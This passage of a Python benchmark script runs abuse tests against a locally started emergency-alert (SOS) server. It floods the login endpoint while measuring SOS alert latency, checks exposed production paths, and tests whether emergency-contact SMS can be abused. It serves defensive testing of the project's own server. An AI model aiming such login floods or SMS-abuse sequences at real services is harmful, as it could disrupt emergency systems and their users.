        "production_paths": paths,
        "cdn_scripts": cdn,
        "refused_stream_close": refused_code,
        "dev_banner_printed": dev_banner,
        "banner_in_production": prod_banner,
    }


async def login_flood(t: Target, scale: Scale, database: server.Database) -> Finding:
    surface = await production_surface(t, database)
    tokens = t.seeded(int(scale.sos_rate * scale.login_flood_seconds) * 2 + 5)
    sos = Workload("sos", f"{API}/alerts", 201, tuple(tokens), run_tag=random.getrandbits(32))
    login = Workload("login", f"{API}/auth/login", 401)
    presses, flood = Generator(t.srv.url), Generator(t.srv.url)
    try:
        await quiet(scale)
        alone = await asyncio.to_thread(
            presses.step, sos, scale.sos_rate, scale.login_flood_seconds, server_pid=t.srv.pid, timeout_s=30
        )
        await quiet(scale)
        t0 = time.monotonic() + 1.0

        def both() -> tuple[StepResult, StepResult]:
            with ThreadPoolExecutor(2) as pool:
                during = pool.submit(
                    presses.step,
                    sos,
                    scale.sos_rate,
                    scale.login_flood_seconds,
                    server_pid=t.srv.pid,
                    timeout_s=30,
                    t0=t0,
                )
                logins = pool.submit(
                    flood.step, login, scale.login_flood_rate, scale.login_flood_seconds, timeout_s=30, t0=t0
                )
                return during.result(), logins.result()

        audit_before = await t.scalar(select(func.count()).select_from(AuditRecord))
        during, flooded = await asyncio.to_thread(both)
        audit_rows = int(await t.scalar(select(func.count()).select_from(AuditRecord)) or 0) - int(audit_before or 0)
    finally:
        presses.close()
        flood.close()
    alone_p, during_p = _presses(alone), _presses(during)
    held = (
        set(surface["production_paths"].values()) == {404}
        and not surface["cdn_scripts"]
        and surface["refused_stream_close"] == 4401
        and surface["dev_banner_printed"]
        and not surface["banner_in_production"]
        and during_p["ok"] == during_p["scheduled"]
        and (_kept(alone_p, during_p) or not scale.quiet)
    )
    return Finding(
        10,
        "production surface and a login flood",
        "/docs and /openapi.json public outside development, scripts from a CDN, refused streams HTTP 403; SOS p95 "
        "14 ms -> 1,795 ms during a login flood from one address",
        f"production {surface['production_paths']}, CDN scripts {surface['cdn_scripts'] or 'none'}, refused stream "
        f"closes {surface['refused_stream_close']}, banner in development {surface['dev_banner_printed']} / in "
        f"production {surface['banner_in_production']}; SOS p95 {alone_p['p95_ms']} ms alone -> "
        f"{during_p['p95_ms']} ms during {scale.login_flood_rate:.0f} logins/s ({flooded.statuses}), "
        f"{during_p['ok']}/{during_p['scheduled']} stored{_conditions(alone_p, during_p)}; the flood wrote "
        f"{audit_rows} audit records",
        held,
        {**surface, "sos_alone": alone_p, "sos_during": during_p, "logins": flooded.statuses, "audit_rows": audit_rows},
    )


# 11. Emergency contacts used to send SMS --------------------------------------------------------------------------


async def contacts(t: Target) -> Finding:
    token, resident_id, _ = await t.resident("Warga Kontak")
    phones = await _with_contacts(t, token, 5)
    asked = await eventually(
        lambda: _async(all(any("mencantumkan" in m for m in t.sms(p)) for p in phones) or None),
        what="the consent SMS",
    )
    del asked
    link = next(m for m in t.sms(phones[0]) if "mencantumkan" in m)
    code = link.split("/k/", 1)[1].split()[0].rstrip(".,)")
    agreed = (await t.http.post(f"/k/{code}/setuju")).status_code
    operator, _, _ = await t.staff("operator", "POLSEK-COBLONG")
    presses = 5
    for _ in range(presses):
        answer = await t.press(token)
        alert_id = answer.json()["id"]
        await eventually(partial(_settled_alarms, t, alert_id, len(phones)), what="the contacts' alarms")
        await t.post(operator, f"/alerts/{alert_id}/acknowledge")
        resolved = await t.post(
            operator, f"/alerts/{alert_id}/resolve", {"outcome": "genuine", "report": "Korban aman"}
        )
        resolved.raise_for_status()
    alarms = [len([m for m in t.sms(p) if "mencantumkan" not in m]) for p in phones]
    del resident_id
    held = agreed == 200 and alarms[0] <= 3 and all(n <= 1 for n in alarms[1:])
    return Finding(
        11,
        "emergency contacts used to send SMS",
        "contacts unverified; every press sent each contact an alarm (1,000 presses: 5,000 SMS)",
        f"5 contacts each asked once; {presses} alerts in a day: the contact who agreed got {alarms[0]} alarms "
        f"(cap 3), the 4 who never answered {alarms[1:]} (one, marked unconfirmed)",
        held,
        {"agreed": agreed, "alerts": presses, "alarms_per_contact": alarms},
    )


# The run ----------------------------------------------------------------------------------------------------------


async def attack(srv: server.Server, scale: Scale) -> list[Finding]:
    t = Target(srv)
    try:
        await t.start(scale)
        findings = []
        steps: dict[int, Callable[[], Awaitable[Finding]]] = {
            0: lambda: hostile_text(t),
            1: lambda: streams(t),
            2: lambda: hostile_kecamatan(t),
            3: lambda: resident_flood(t, scale),
            4: lambda: guessing(t, scale),
            5: lambda: weak_passwords(t),
            7: lambda: denied_reads(t, scale),
            8: lambda: bad_inputs(t),
            9: lambda: oracles(t),
            10: lambda: login_flood(t, scale, srv.database),
            11: lambda: contacts(t),
        }
        wanted = os.environ.get("BENCH_ITEMS")  # e.g. "3,10": only these items
        if wanted:
            steps = {item: step for item, step in steps.items() if str(item) in wanted.split(",")}
        for step in steps.values():
            began = time.monotonic()
            finding = await step()
            took = time.monotonic() - began
            say(f"  {finding.item:>2}. {'held  ' if finding.held else 'FAILED'} {finding.title} ({took:.0f} s)")
            say(f"      before: {finding.before}")
            say(f"      after:  {finding.after}")
            findings.append(finding)
        return findings
    finally:
        await t.close()


def measure(kind: str, scale: Scale) -> list[Finding]:
    with _scratch(kind, officers=0) as (database, _):
        srv = server.start(database, name="server-attack", SIAGA_CONTACT_ALARM_DELAY_SECONDS="0")
        try:
            say(f"{kind}: attacking {srv.url}")
            return asyncio.run(attack(srv, scale))
        finally:
            srv.stop()
            problems = _server_problems(srv.log_path)
            say(f"  server: {problems['lines']} error lines; most common: {problems['most_common'][:3]}")


def main() -> int:
    scale = Scale.from_env()
    results: dict[str, Any] = {"scale": asdict(scale)}
    held = True
    for kind in os.environ.get("BENCH_DATABASES", "sqlite,postgres").split(","):
        if kind == "postgres" and (problem := asyncio.run(server.postgres_problem())) is not None:
            say(f"postgres: skipped, unreachable ({problem})")
            continue
        findings = measure(kind, scale)
        results[kind] = [asdict(f) for f in findings]
        held = held and all(f.held for f in findings)
    out = Path(os.environ.get("BENCH_RESULTS", ROOT / "benchmarks" / "results")) / "attack.json"
    out.parent.mkdir(parents=True, exist_ok=True)
    out.write_text(json.dumps(results, indent=1, default=str) + "\n")
    say(f"written: {out}; {'every item held' if held else 'SOME ITEMS FAILED'}")
    return 0 if held else 1


if __name__ == "__main__":
    sys.exit(main())
